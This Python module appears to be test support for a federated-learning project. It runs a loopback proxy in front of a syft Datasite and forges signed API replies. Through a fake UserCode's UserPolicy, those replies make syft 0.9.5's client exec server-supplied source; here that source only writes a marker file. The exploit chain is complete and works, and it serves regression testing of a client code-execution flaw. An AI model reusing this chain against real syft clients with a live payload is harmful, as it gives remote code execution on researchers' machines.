"""A malicious Datasite, as the scientist meets it: a real Datasite behind a small hostile front.

:class:`HostileFront` is an HTTP server on loopback that forwards every request to a
real served Datasite, except the API calls it was told to answer itself. With
:func:`code_loading_answers` it answers the way a hostile server makes syft 0.9.5's
client run code: a reply naming a type the client does not know (syft then asks the
server for the user's code to "reload" it), then a list holding one approved-looking
``UserCode`` whose input policy is a ``UserPolicy`` carrying the attacker's source,
which syft ``exec``s on the client.
"""
from __future__ import annotations

import http.server
import threading

import requests

UNKNOWN_TYPE = "fedlearn_test_a_type_nobody_registered"


def _signed(data) -> bytes:
    """A reply as a server signs it; a fresh key will do (syft checks the embedded key)."""
    import syft as sy
    from syft.client.api import SyftAPIData
    from syft.server.credentials import SyftSigningKey

    return sy.serialize(SyftAPIData(data=data).sign(SyftSigningKey.generate()), to_bytes=True)


def unknown_type_blob() -> bytes:
    """A syft message whose type name no registry holds."""
    from syft.serde.recursive import recursive_scheme

    message = recursive_scheme.new_message()
    message.canonicalName, message.version = UNKNOWN_TYPE, 1
    return message.to_bytes()


def _caller(call: bytes):
    """The verify key that signed a call: the client's."""
    import syft as sy

    return sy.deserialize(call, from_bytes=True).credentials


def _code_with_policy_source(server_uid, client_key, source: str):
    """An approved-looking UserCode whose input policy is custom code: ``source``."""
    import inspect

    from syft.abstract_server import ServerSideType
    from syft.server.credentials import SyftSigningKey
    from syft.service.code.status_service import UserCodeStatusService
    from syft.service.code.user_code import UserCode, UserCodeStatusCollection
    from syft.service.policy.policy import OutputPolicyExecuteCount, UserPolicy
    from syft.store.linked_obj import LinkedObject
    from syft.types.uid import UID

    key = SyftSigningKey.generate().verify_key
    policy = UserPolicy(id=UID(), user_verify_key=key, raw_code=source, parsed_code=source,
                        signature=inspect.Signature(), class_name="Gadget",
                        unique_name="Gadget", code_hash="0")
    status = LinkedObject.from_uid(UID(), UserCodeStatusCollection, UserCodeStatusService,
                                   server_uid=server_uid)
    # where syft's client will look the status up: this server, as this client
    status.syft_server_location, status.syft_client_verify_key = server_uid, client_key
    return UserCode(id=UID(), user_verify_key=key, raw_code="def f():\n    pass\n",
                    input_policy_type=policy, output_policy_type=OutputPolicyExecuteCount,
                    parsed_code="def f():\n    pass\n", service_func_name="f",
                    unique_func_name="f", user_unique_func_name="f", code_hash="0",
                    signature=inspect.Signature(), status_link=status, input_kwargs=[],
                    origin_server_side_type=ServerSideType.HIGH_SIDE)


def _approved_status(server_uid):
    from syft.server.credentials import SyftSigningKey
    from syft.service.code.user_code import UserCode, UserCodeStatusCollection
    from syft.service.code.user_code_service import UserCodeService
    from syft.store.linked_obj import LinkedObject
    from syft.types.uid import UID

    link = LinkedObject.from_uid(UID(), UserCode, UserCodeService, server_uid=server_uid)
    return UserCodeStatusCollection(id=UID(), status_dict={}, user_code_link=link,
                                    user_verify_key=SyftSigningKey.generate().verify_key)


def _after_login(answer):
    """syft's own login asks ``user.get_current_user`` once before it arms its code
    reloader: forward that first call, answer the later ones."""
    calls = []

    def respond(call):
        calls.append(call)
        return answer() if len(calls) > 1 else None
    return respond


def code_loading_answers(server_uid, marker) -> dict:
    """The answers that make an unpatched syft client write ``marker`` (see module doc)."""
    source = (f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
              "class Gadget:\n    pass\n")
    return {"user.get_current_user": _after_login(unknown_type_blob),
            "code.get_all_for_user": lambda call: _signed(
                [_code_with_policy_source(server_uid, _caller(call), source)]),
            "notifications.resolve_object": lambda call: _signed(_approved_status(server_uid))}


class HostileFront:
    """Forwards to ``target`` (a Datasite URL) except the API paths in ``answers``, whose
    functions take the call's bytes and return the answer's (None: forward this one)."""

    def __init__(self, target: str, answers: dict):
        self.target, self.answers, self.seen = target.rstrip("/"), answers, []
        front = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                front._forward(self, "GET", None)

            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path = front._call_path(self.path, body)
                answer = front.answers[path](body) if path in front.answers else None
                if answer is None:
                    return front._forward(self, "POST", body)
                front.seen.append(path)
                front._reply(self, 200, answer, "application/octet-stream")

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @staticmethod
    def _call_path(route: str, body: bytes) -> str | None:
        if not route.endswith("/api_call"):
            return None
        import syft as sy

        return str(sy.deserialize(body, from_bytes=True).message.path)

    def _forward(self, handler, method: str, body: bytes | None) -> None:
        headers = {k: v for k, v in handler.headers.items()
                   if k.lower() not in ("host", "content-length", "connection")}
        reply = requests.request(method, self.target + handler.path, data=body,
                                 headers=headers, timeout=120)
        self._reply(handler, reply.status_code, reply.content,
                    reply.headers.get("Content-Type", "application/octet-stream"))

    @staticmethod
    def _reply(handler, status: int, body: bytes, kind: str) -> None:
        handler.send_response(status)
        handler.send_header("Content-Type", kind)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
